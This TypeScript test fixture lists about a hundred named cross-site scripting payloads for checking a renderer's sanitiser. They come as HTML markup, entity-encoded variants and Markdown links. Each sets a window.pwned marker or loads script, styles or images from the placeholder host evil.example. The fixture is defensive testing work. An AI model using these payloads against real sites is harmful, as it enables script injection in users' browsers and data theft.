/**
 * Texts that try to run something in a reader's browser, to load something from elsewhere, or to break out of the place
 * they stand in. A test puts each into every text field and looks whether `window.pwned` was set or `evil.example` asked.
 */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

/** What every payload tries to set. */
export const MARKER = 'pwned';

/** The host that every loading payload tries to reach; it does not exist (RFC 2606). */
export const FOREIGN_HOST = 'evil.example';

const RUN = `window.${MARKER}=1`;
const SITE = `https://${FOREIGN_HOST}`;

const markup: Readonly<Record<string, string>> = {
  'script element': `<script>${RUN}</script>`,
  'script in capitals': `<SCRIPT>${RUN}</SCRIPT>`,
  'script with a slash before its name ends': `<script/x>${RUN}</script/x>`,
  'script with a remote source': `<script src=${SITE}/a.js></script>`,
  'script broken by a newline': `<script\n>${RUN}</script\n>`,
  'nested script start': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'doubled angle brackets': `<<script>${RUN};//<</script>`,
  'module script': `<script type=module>${RUN}</script>`,
  'image with a failing source': `<img src=x onerror="${RUN}">`,
  'image without quotes': `<img src=x onerror=${RUN}>`,
  'image with slashes for blanks': `<img/src=x/onerror=${RUN}>`,
  'image with a form feed for a blank': `<img\u000csrc=x\u000conerror=${RUN}>`,
  'image with back-quotes': `<img src=\`x\`onerror=${RUN}>`,
  'image never closed': `<img src=x onerror=${RUN}//`,
  'image with a remote source': `<img src="${SITE}/pixel.png">`,
  'image with a remote source set': `<img srcset="${SITE}/pixel.png 1x">`,
  'unknown element with a handler': `<xss onmouseover="${RUN}" style="position:fixed;inset:0">x</xss>`,
  'body with a handler': `<body onload=${RUN}>`,
  'details that toggles': `<details open ontoggle=${RUN}>x</details>`,
  'input with focus': `<input autofocus onfocus=${RUN}>`,
  'select with focus': `<select autofocus onfocus=${RUN}></select>`,
  'video with a failing source': `<video><source onerror="${RUN}"></video>`,
  'audio with a failing source': `<audio src=x onerror=${RUN}></audio>`,
  marquee: `<marquee onstart=${RUN}>x</marquee>`,
  'animation with a handler': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  'SVG with a handler': `<svg onload=${RUN}>`,
  'SVG with a script': `<svg><script>${RUN}</script></svg>`,
  'SVG animation of a link': `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  'SVG with HTML inside': `<svg><foreignObject><iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe></foreignObject></svg>`,
  'SVG use of a data address': `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>`,
  'MathML with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  'MathML that changes the parser': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'noscript that changes the parser': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'style that ends in an attribute': `<style><a title="</style><img src=x onerror=${RUN}>">`,
  'title that ends early': `</title><script>${RUN}</script>`,
  'textarea that ends early': `</textarea><script>${RUN}</script>`,
  'frame with a script address': `<iframe src="javascript:parent.${MARKER}=1"></iframe>`,
  'frame with a document': `<iframe srcdoc="&lt;script&gt;parent.${MARKER}=1&lt;/script&gt;"></iframe>`,
  'frame of another site': `<iframe src="${SITE}"></iframe>`,
  'object with a data address': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  'embed with a script address': `<embed src="javascript:${RUN}">`,
  'form that runs': `<form action="javascript:${RUN}"><button>x</button></form>`,
  'button that runs': `<form><button formaction="javascript:${RUN}">x</button></form>`,
  isindex: `<isindex type=image src=1 onerror=${RUN}>`,
  'base of another site': `<base href="${SITE}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'style sheet of another site': `<link rel=stylesheet href="${SITE}/a.css">`,
  'style import': `<style>@import '${SITE}/a.css';</style>`,
  'style attribute that loads': `<p style="background:url(${SITE}/a.png)">x</p>`,
  template: `<template><script>${RUN}</script></template>`,
  'comment that ends oddly': `<!--><img src=x onerror=${RUN}>-->`,
  'conditional comment': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  CDATA: `<![CDATA[<script>${RUN}</script>]]>`,
  'end of CDATA': `]]><script>${RUN}</script>`,
  'processing instruction': `<?xml-stylesheet href="javascript:${RUN}"?>`,
  'end of an attribute': `" onmouseover="${RUN}" x="`,
  'end of an attribute and its element': `"><script>${RUN}</script>`,
  'end of a single-quoted attribute': `' onmouseover='${RUN}' x='`,
  'end of a JSON script': `</script><script>${RUN}</script>`,
  'link with a script address': `<a href="javascript:${RUN}">x</a>`,
  'link with a tab in its scheme': `<a href="java&#9;script:${RUN}">x</a>`,
};

const encoded: Readonly<Record<string, string>> = {
  'named entities': `&lt;script&gt;${RUN}&lt;/script&gt;`,
  'named entities twice': `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  'named entities three times': `&amp;amp;lt;img src=x onerror=${RUN}&amp;amp;gt;`,
  'decimal entities': `&#60;img src=x onerror=${RUN}&#62;`,
  'decimal entities twice': `&amp;#60;img src=x onerror=${RUN}&amp;#62;`,
  'hexadecimal entities': `&#x3c;img src=x onerror=${RUN}&#x3E;`,
  'entities with leading zeros': `&#0000060;script&#0000062;${RUN}&#0000060;/script&#0000062;`,
  'entities without semicolon': `&ltscript&gt${RUN}&lt/script&gt`,
  'entity of an entity': `&#38;lt;script&#38;gt;${RUN}&#38;lt;/script&#38;gt;`,
  'quotation marks as entities': `&quot; onmouseover=&quot;${RUN}&quot; x=&quot;`,
  'quotation marks as entities twice': `&amp;quot; onmouseover=&amp;#34;${RUN}&amp;quot; x=&amp;quot;`,
  'escapes of Markdown': `\\<script\\>${RUN}\\</script\\>`,
  'full-width brackets': `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  'UTF-7': `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  Handlebars: `{{{lookup (lookup this "constructor") "constructor"}}}<script>${RUN}</script>{{/each}}`,
  'template literal': `\${${RUN}}`,
  'slot of ours': `<cw-slot n="0"></cw-slot><script>${RUN}</script>`,
  'reference of ours': `<a data-ref="activity:x" onclick="${RUN}">x</a>`,
  'text directed backwards': `\u202e<script>${RUN}</script>`,
  'zero byte in a tag': `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  'half a character before a tag': `\ud83d<img src=x onerror=${RUN}>`,
};

const markdown: Readonly<Record<string, string>> = {
  'Markdown link': `[x](javascript:${RUN})`,
  'Markdown link in capitals': `[x](JaVaScRiPt:${RUN})`,
  'Markdown link with an entity': `[x](javascript&colon;${RUN})`,
  'Markdown link with a numeric entity': `[x](&#106;avascript:${RUN})`,
  'Markdown link with a tab': `[x](java&Tab;script:${RUN})`,
  'Markdown link with a newline': `[x](<java&NewLine;script:${RUN}>)`,
  'Markdown link with a control character': `[x](\u0001javascript:${RUN})`,
  'Markdown link whose entity is encoded again': `[x](javascript&amp;colon;${RUN})`,
  'Markdown link to data': `[x](data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==)`,
  'Markdown link to VBScript': `[x](vbscript:${RUN})`,
  'Markdown link without a scheme': `[x](//${FOREIGN_HOST}/)`,
  'Markdown link that leaves its attribute': `[x](https://example.org/"onmouseover="${RUN})`,
  'Markdown link that leaves its attribute by an entity': `[x](https://example.org/&quot;onmouseover=&quot;${RUN})`,
  'Markdown title that leaves its attribute': `[x](https://example.org 'a" onmouseover="${RUN}')`,
  'Markdown title with entities': `[x](https://example.org "&amp;quot; onmouseover=&amp;quot;${RUN}")`,
  'Markdown reference': `[x][y]\n\n[y]: javascript:${RUN}`,
  'Markdown automatic link': `<javascript:${RUN}>`,
  'Markdown picture that runs': `![x](javascript:${RUN})`,
  'Markdown picture of data': `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  'Markdown picture of another site': `![x](${SITE}/pixel.png)`,
  'Markdown picture whose words leave their attribute': `![x" onerror="${RUN}](asset:picture)`,
  'Markdown reference that leaves its attribute': `[x](activity:a"onclick="${RUN})`,
  'Markdown language that leaves its attribute': `[x]{lang=en"onclick="${RUN}}`,
  'Markdown code fence that leaves its attribute': `\`\`\`x"onclick="${RUN}\ncode\n\`\`\``,
  'Markdown footnote that leaves its attribute': `[^"onclick="${RUN}]\n\n[^"onclick="${RUN}]: x`,
  'Markdown citation that leaves its attribute': `[@x, "><script>${RUN}</script>]`,
  'Markdown table': `| <img src=x onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`,
  'Markdown code': `\`<script>${RUN}</script>\``,
};

function named(group: Readonly<Record<string, string>>): readonly Payload[] {
  return Object.entries(group).map(([name, text]) => ({ name, text }));
}

export const payloads: readonly Payload[] = [...named(markup), ...named(encoded), ...named(markdown)];

/** Those that fit a field of one line. */
export const linePayloads: readonly Payload[] = payloads.filter(({ text }) => !text.includes('\n'));
